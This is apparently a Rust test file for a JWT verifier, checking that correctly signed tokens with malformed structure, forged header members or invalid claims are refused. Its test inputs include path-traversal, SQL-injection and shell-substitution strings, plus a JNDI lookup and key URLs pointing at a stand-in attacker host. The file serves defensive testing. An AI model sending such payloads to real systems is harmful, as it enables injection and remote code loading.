//! Tokens whose form, header or claims are wrong although their signature is right. Each is refused, and with which
//! code.

use serde_json::{Value as Json, json};

use super::tests::{check, good_principal, refuse, with_header};
use super::*;
use crate::signing::{
    ALL, NOW, encode, good_claims, good_header, good_token, name, signed, token_of, token_with,
};

fn header_text() -> String {
    good_header(Algorithm::ES256).to_string()
}

fn header_with(member: &str, value: Json) -> String {
    with_header(Algorithm::ES256, |header| header[member] = value)
}

/// Correctly signed claims of exactly these bytes.
fn claims_of(text: impl AsRef<[u8]>) -> String {
    token_of(Algorithm::ES256, header_text(), text)
}

/// Correctly signed good claims in which one text is another.
fn claims_replaced(from: &str, to: &str) -> String {
    let claims = good_claims().to_string();
    assert!(claims.contains(from), "{from}");
    claims_of(claims.replacen(from, to, 1))
}

#[test]
fn what_is_not_three_parts_is_no_token() {
    let good = good_token(Algorithm::ES256);
    let (message, signature) = good.rsplit_once('.').unwrap();
    let (header, claims) = message.split_once('.').unwrap();
    let flattened = json!({ "protected": header, "payload": claims, "signature": signature }).to_string();
    let mut attacks = vec![
        ("nothing", String::new()),
        ("dots", "..".to_owned()),
        ("many dots", ".".repeat(MAX_TOKEN_BYTES)),
        ("two parts", message.to_owned()),
        ("four parts", format!("{good}.{signature}")),
        ("five parts, as an encrypted token has", format!("{good}.a.b")),
        ("no header", format!(".{claims}.{signature}")),
        ("no claims", format!("{header}..{signature}")),
        ("the claims first", format!("{claims}.{header}.{signature}.")),
        ("JSON instead of the compact form", flattened),
        ("two tokens", format!("{good},{good}")),
        ("two tokens without a comma", format!("{good}{good}")),
    ];
    let junk = [
        " ", "\n", "\r\n", "\t", "\0", "\"", "'", ",", ";", "%", "=", "==", "\u{feff}", "é", "\u{200b}",
        "Bearer ",
    ];
    for junk in junk {
        attacks.push(("before it", format!("{junk}{good}")));
        attacks.push(("after it", format!("{good}{junk}")));
        attacks.push(("inside it", good.replacen('.', &format!(".{junk}"), 1)));
    }
    for length in [1, header.len() - 1, header.len(), header.len() + 1, message.len()] {
        attacks.push(("truncated before the signature", good[..length].to_owned()));
    }
    let attacks = attacks.into_iter();
    refuse(attacks.map(|(what, token)| (format!("{what}: {token:?}"), token, TokenError::Malformed)));
}

/// Correctly signed, so that only the spelling is wrong: who decodes it leniently would take it.
#[test]
fn one_value_has_one_spelling_in_base64url() {
    // 3n + 1 bytes: the last character holds four bits that mean nothing, and two `=` are missing.
    let pad = |text: String| {
        let spaces = (4 - text.len() % 3) % 3;
        text + &" ".repeat(spaces)
    };
    let header = encode(pad(header_text()));
    let claims = encode(pad(good_claims().to_string()));
    let respelled = |part: &str| {
        let (rest, last) = part.split_at(part.len() - 1);
        format!("{rest}{}", (last.as_bytes()[0] + 1) as char)
    };
    assert_eq!(check(&signed(Algorithm::ES256, &format!("{header}.{claims}"))), Ok(good_principal()));
    let messages = [
        ("stray bits in the header", format!("{}.{claims}", respelled(&header))),
        ("stray bits in the claims", format!("{header}.{}", respelled(&claims))),
        ("a padded header", format!("{header}==.{claims}")),
        ("padded claims", format!("{header}.{claims}==")),
        ("one character too many", format!("{header}.{claims}AAA")),
        ("a line break", format!("{header}.{}\n{}", &claims[..76], &claims[76..])),
        ("percent encoding", format!("{header}.{claims}%3D%3D")),
    ];
    refuse(
        messages.map(|(what, message)| {
            (what.to_owned(), signed(Algorithm::ES256, &message), TokenError::Malformed)
        }),
    );

    let other_alphabet = encode(r#"{"alg":"ES256","kid":"p256-1","x":"???>>>"}"#);
    assert!(other_alphabet.contains('_') && other_alphabet.contains('-'));
    assert_eq!(check(&signed(Algorithm::ES256, &format!("{other_alphabet}.{claims}"))), Ok(good_principal()));
    let plain = other_alphabet.replace('_', "/").replace('-', "+");
    let token = signed(Algorithm::ES256, &format!("{plain}.{claims}"));
    assert_eq!(check(&token), Err(TokenError::Malformed));

    for algorithm in ALL {
        let good = good_token(algorithm);
        assert_eq!(check(&respelled(&good)), Err(TokenError::Malformed), "signature of {}", name(algorithm));
    }
}

#[test]
fn header_and_claims_are_one_json_object_each() {
    let good = good_claims().to_string();
    let texts: Vec<Vec<u8>> = [
        "",
        " ",
        "7",
        "null",
        "true",
        "[]",
        "\"\"",
        "{",
        "{}{}",
        "{},",
        "{\"a\":1,}",
        "{'a':1}",
        "{a:1}",
        "{\"a\":NaN}",
        "{\"a\":01}",
        "{\"a\":+1}",
        "{\"a\":1 /* */}",
        "{\"a\":\"\u{1}\"}",
        "\u{feff}{}",
    ]
    .iter()
    .map(|text| text.as_bytes().to_vec())
    .chain([
        b"{\"a\":\"\xff\"}".to_vec(),
        b"{\"\xff\":1}".to_vec(),
        br#"{"\ud800":1}"#.to_vec(),
        format!("{good}{good}").into_bytes(),
        format!("{good}\0").into_bytes(),
        format!("[{good}]").into_bytes(),
    ])
    .collect();
    for text in texts {
        let shown = text.escape_ascii();
        assert_eq!(check(&claims_of(&text)), Err(TokenError::Malformed), "claims {shown}");
        assert_eq!(
            check(&token_of(Algorithm::ES256, &text, &good)),
            Err(TokenError::Malformed),
            "header {shown}"
        );
    }
}

#[test]
fn a_token_in_a_token_is_none() {
    let inner = good_token(Algorithm::ES256);
    refuse([
        ("the claims are a token".to_owned(), claims_of(&inner), TokenError::Malformed),
        (
            "the claims are a token as text".to_owned(),
            claims_of(json!(inner).to_string()),
            TokenError::Malformed,
        ),
        (
            "and the header says so".to_owned(),
            token_of(Algorithm::ES256, r#"{"alg":"ES256","kid":"p256-1","cty":"JWT"}"#, &inner),
            TokenError::Nested,
        ),
        (
            "the header is one".to_owned(),
            token_of(Algorithm::ES256, &inner, good_claims().to_string()),
            TokenError::Malformed,
        ),
    ]);
}

#[test]
fn a_token_is_small_and_flat() {
    let nested = |depth: usize| format!("{}{}", "[".repeat(depth), "]".repeat(depth));
    let deep_claims =
        |depth| claims_of(good_claims().to_string().replacen('{', &format!("{{\"x\":{},", nested(depth)), 1));
    let deep_header = |depth| {
        let header = header_text().replacen('{', &format!("{{\"x\":{},", nested(depth)), 1);
        token_of(Algorithm::ES256, header, good_claims().to_string())
    };
    let objects = format!("{}1{}", r#"{"a":"#.repeat(500), "}".repeat(500));
    let attacks = [
        ("deep claims", deep_claims(MAX_DEPTH)),
        ("very deep claims", deep_claims(2000)),
        ("deep header", deep_header(MAX_DEPTH)),
        ("very deep header", deep_header(2000)),
        ("objects in objects", claims_of(objects)),
        ("lists that do not end", claims_of("[".repeat(3000))),
        ("deep channels", claims_replaced(r#"["iceberg","products.*"]"#, &nested(100))),
    ];
    refuse(attacks.map(|(what, token)| (what.to_owned(), token, TokenError::TooDeep)));
    for token in [deep_claims(MAX_DEPTH - 1), deep_header(MAX_DEPTH - 1)] {
        assert_eq!(check(&token), Ok(good_principal()));
    }

    let filled = |bytes: usize| token_with(Algorithm::ES256, "filler", json!("x".repeat(bytes)));
    let sized: Vec<String> = (5500..5900).map(filled).collect();
    let largest = sized.iter().rfind(|token| token.len() <= MAX_TOKEN_BYTES).unwrap();
    let first_too_large = sized.iter().find(|token| token.len() > MAX_TOKEN_BYTES).unwrap();
    assert!(first_too_large.len() - largest.len() < 4, "{} {}", largest.len(), first_too_large.len());
    assert_eq!(check(largest), Ok(good_principal()));
    let huge = [
        ("a little too large", first_too_large.clone()),
        ("huge", filled(1_000_000)),
        ("huge and no token", "A".repeat(50_000_000)),
        ("huge signature", format!("{}{}", good_token(Algorithm::ES256), "A".repeat(MAX_TOKEN_BYTES))),
    ];
    refuse(huge.map(|(what, token)| (what.to_owned(), token, TokenError::TooLarge)));
}

#[test]
fn the_header_decides_nothing() {
    use TokenError::{CriticalHeader, EmbeddedKey, KeyIdRefused, Nested, UnknownKey, WrongType};
    let own_key = json!({ "kty": "EC", "crv": "P-256",
        "x": "f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU", "y": "x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0" });
    let mut cases = vec![
        ("crit", json!(["exp"]), CriticalHeader),
        ("crit", json!(["b64"]), CriticalHeader),
        ("crit", json!([]), CriticalHeader),
        ("crit", Json::Null, CriticalHeader),
        ("b64", json!(false), CriticalHeader),
        ("b64", json!(true), CriticalHeader),
        ("cty", json!("JWT"), Nested),
        ("cty", json!("application/jwt"), Nested),
        ("cty", Json::Null, Nested),
        ("jwk", own_key, EmbeddedKey),
        ("jwk", json!({ "kty": "oct", "k": "AAAA" }), EmbeddedKey),
        ("jwk", Json::Null, EmbeddedKey),
        ("jku", json!("https://attacker.example/jwks.json"), EmbeddedKey),
        ("jku", json!("https://issuer.example/jwks.json"), EmbeddedKey),
        ("x5u", json!("https://attacker.example/x5u"), EmbeddedKey),
        ("x5c", json!(["MIIB"]), EmbeddedKey),
        ("typ", json!("logout+jwt"), WrongType),
        ("typ", json!("application/dpop+jwt"), WrongType),
        ("typ", json!("secevent+jwt"), WrongType),
        ("typ", json!("JWE"), WrongType),
        ("typ", json!(""), WrongType),
        ("typ", json!(["JWT"]), WrongType),
        ("typ", Json::Null, WrongType),
        ("kid", json!("x".repeat(MAX_KEY_ID_BYTES)), UnknownKey),
        ("kid", json!("x".repeat(MAX_KEY_ID_BYTES + 1)), KeyIdRefused),
        ("kid", json!(1), KeyIdRefused),
        ("kid", json!(["p256-1"]), KeyIdRefused),
        ("kid", Json::Null, KeyIdRefused),
    ];
    for id in [
        "p256-2",
        "P256-1",
        " p256-1",
        "p256-1 ",
        "p256-1\0",
        "p256-?",
        "*",
        "",
        "../../../dev/null",
        "/dev/null",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2fetc%2fpasswd",
        "file:///etc/passwd",
        "https://attacker.example/key",
        "' or '1'='1",
        "p256-1' union select 'x",
        "|id",
        "$(id)",
        "${jndi:ldap://attacker.example}",
        "🔑",
    ] {
        cases.push(("kid", json!(id), UnknownKey));
    }
    let attacks = cases.into_iter().map(|(member, value, expected)| {
        (format!("header {member}: {value}"), header_with(member, value), expected)
    });
    assert_eq!(refuse(attacks), 48);
}

#[test]
fn no_name_stands_twice() {
    let claims = good_claims().to_string();
    let headers = [
        r#"{"alg":"none","alg":"ES256","kid":"p256-1"}"#,
        r#"{"alg":"ES256","alg":"none","kid":"p256-1"}"#,
        r#"{"alg":"ES256","kid":"rsa-1","kid":"p256-1"}"#,
        r#"{"alg":"ES256","k\u0069d":"p256-1","kid":"p256-1"}"#,
        r#"{"alg":"ES256","kid":"p256-1","x":1,"x":1}"#,
    ];
    for header in headers {
        let token = token_of(Algorithm::ES256, header, &claims);
        assert_eq!(check(&token), Err(TokenError::DuplicateMember), "{header}");
    }
    let doubled = [
        r#""sub":"root""#,
        r#""s\u0075b":"root""#,
        r#""aud":"other""#,
        r#""\u0061ud":"other""#,
        r#""exp":9999999999"#,
        r#""tenant":"south""#,
        r#""channels":"*""#,
        r#""iss":"https://attacker.example""#,
        r#""x":1,"x":2"#,
    ];
    for member in doubled {
        for text in [
            claims.replacen('{', &format!("{{{member},"), 1),
            format!("{},{member}}}", claims.strip_suffix('}').unwrap()),
        ] {
            assert_eq!(check(&claims_of(&text)), Err(TokenError::DuplicateMember), "{text}");
        }
    }
}

#[test]
fn claims_are_what_they_must_be() {
    use TokenError::{
        ClaimMalformed, Expired, ExpiryMissing, NotYetValid, SubjectMissing, TooManyPatterns, WrongAudience,
        WrongIssuer,
    };
    let cases = [
        ("exp", Json::Null, ExpiryMissing),
        ("exp", json!(0), Expired),
        ("exp", json!(NOW - 30), Expired),
        ("exp", json!(NOW - 31), Expired),
        ("exp", json!(-1), ClaimMalformed),
        ("exp", json!(i64::MIN), ClaimMalformed),
        ("exp", json!(i64::MAX), ClaimMalformed),
        ("exp", json!(u64::MAX), ClaimMalformed),
        ("exp", json!(MAX_SECOND + 1), ClaimMalformed),
        // A time in milliseconds is beyond the year 9999.
        ("exp", json!((NOW + 60) * 1000), ClaimMalformed),
        ("exp", json!((NOW + 60).to_string()), ClaimMalformed),
        ("exp", json!("2031-01-01T00:00:00Z"), ClaimMalformed),
        ("exp", json!([NOW + 60]), ClaimMalformed),
        ("exp", json!(true), ClaimMalformed),
        ("nbf", json!(NOW + 31), NotYetValid),
        ("nbf", json!(MAX_SECOND), NotYetValid),
        ("nbf", json!(-1), ClaimMalformed),
        ("nbf", json!("now"), ClaimMalformed),
        ("nbf", json!(false), ClaimMalformed),
        ("iss", Json::Null, WrongIssuer),
        ("iss", json!("*"), WrongIssuer),
        ("iss", json!("https://*"), WrongIssuer),
        ("iss", json!("https://issuer.example/"), WrongIssuer),
        ("iss", json!("https://Issuer.example"), WrongIssuer),
        ("iss", json!("https://issuer.example\0"), WrongIssuer),
        ("iss", json!("https://issuer.example.attacker.example"), WrongIssuer),
        ("iss", json!(["https://issuer.example"]), ClaimMalformed),
        ("aud", Json::Null, WrongAudience),
        ("aud", json!("freshet2"), WrongAudience),
        ("aud", json!("Freshet"), WrongAudience),
        ("aud", json!("other freshet"), WrongAudience),
        ("aud", json!("*"), WrongAudience),
        ("aud", json!("fresh*"), WrongAudience),
        ("aud", json!(["*", "freshe?"]), WrongAudience),
        ("aud", json!(""), WrongAudience),
        ("aud", json!([]), WrongAudience),
        ("aud", json!(["other", "freshet "]), WrongAudience),
        ("aud", json!(["freshet", 7]), ClaimMalformed),
        ("aud", json!([["freshet"]]), ClaimMalformed),
        ("aud", json!({ "freshet": true }), ClaimMalformed),
        ("sub", Json::Null, SubjectMissing),
        ("sub", json!(""), ClaimMalformed),
        ("sub", json!(7), ClaimMalformed),
        ("sub", json!(["ada"]), ClaimMalformed),
        ("sub", json!("ada\0"), ClaimMalformed),
        ("sub", json!("ada\nadministrator=true"), ClaimMalformed),
        ("sub", json!("x".repeat(MAX_NAME_BYTES + 1)), ClaimMalformed),
        ("tenant", json!(""), ClaimMalformed),
        ("tenant", json!("north\u{7f}"), ClaimMalformed),
        ("tenant", json!("x".repeat(MAX_NAME_BYTES + 1)), ClaimMalformed),
        ("tenant", json!(["north", "south"]), ClaimMalformed),
        ("admin", json!("true"), ClaimMalformed),
        ("admin", json!("*"), ClaimMalformed),
        ("admin", json!(1), ClaimMalformed),
        ("admin", json!([true]), ClaimMalformed),
        ("channels", json!(["iceberg", ["orders"]]), ClaimMalformed),
        ("channels", json!({ "iceberg": true }), ClaimMalformed),
        ("channels", json!(true), ClaimMalformed),
        ("channels", json!(vec!["a"; 65]), TooManyPatterns),
        ("channels", json!("x".repeat(257)), TooManyPatterns),
        ("publish", json!("a ".repeat(65)), TooManyPatterns),
    ];
    let attacks = cases.into_iter().map(|(claim, value, expected)| {
        (
            format!("claim {claim}: {:.60}", value.to_string()),
            token_with(Algorithm::ES256, claim, value),
            expected,
        )
    });
    assert_eq!(refuse(attacks), 61);
    let longest = token_with(Algorithm::ES256, "sub", json!("x".repeat(MAX_NAME_BYTES)));
    assert!(check(&longest).is_ok());
}

#[test]
fn a_time_is_an_integer_in_the_plain_notation() {
    let exp = format!("\"exp\":{}", NOW + 60);
    let cases = [
        ("1893456060.0", TokenError::ClaimMalformed),
        ("1893456060.5", TokenError::ClaimMalformed),
        ("1.89345606e9", TokenError::ClaimMalformed),
        ("2E9", TokenError::ClaimMalformed),
        ("1e300", TokenError::ClaimMalformed),
        ("1893456060000000000000000000000", TokenError::ClaimMalformed),
        ("-0", TokenError::Expired),
        ("01893456060", TokenError::Malformed),
        ("+1893456060", TokenError::Malformed),
        ("0x70dbd87c", TokenError::Malformed),
        ("Infinity", TokenError::Malformed),
    ];
    refuse(cases.map(|(number, expected)| {
        (number.to_owned(), claims_replaced(&exp, &format!("\"exp\":{number}")), expected)
    }));
    // Half a surrogate pair is no character.
    let broken = claims_replaced(r#""sub":"ada""#, r#""sub":"ada\ud800""#);
    assert_eq!(check(&broken), Err(TokenError::ClaimMalformed));
}

#[test]
fn claims_that_look_like_those_that_count_grant_nothing() {
    for (claim, value) in [
        ("Admin", json!(true)),
        ("ADMIN", json!(true)),
        ("administrator", json!(true)),
        ("is_administrator", json!(true)),
        ("roles", json!(["admin"])),
        ("scope", json!("admin *")),
        ("Channels", json!("*")),
        ("reads", json!(["*"])),
        ("publishes", json!(["*"])),
        ("tenants", json!(["south"])),
        ("expires_at", json!("2099-01-01T00:00:00Z")),
    ] {
        assert_eq!(check(&token_with(Algorithm::ES256, claim, value)), Ok(good_principal()), "{claim}");
    }
}
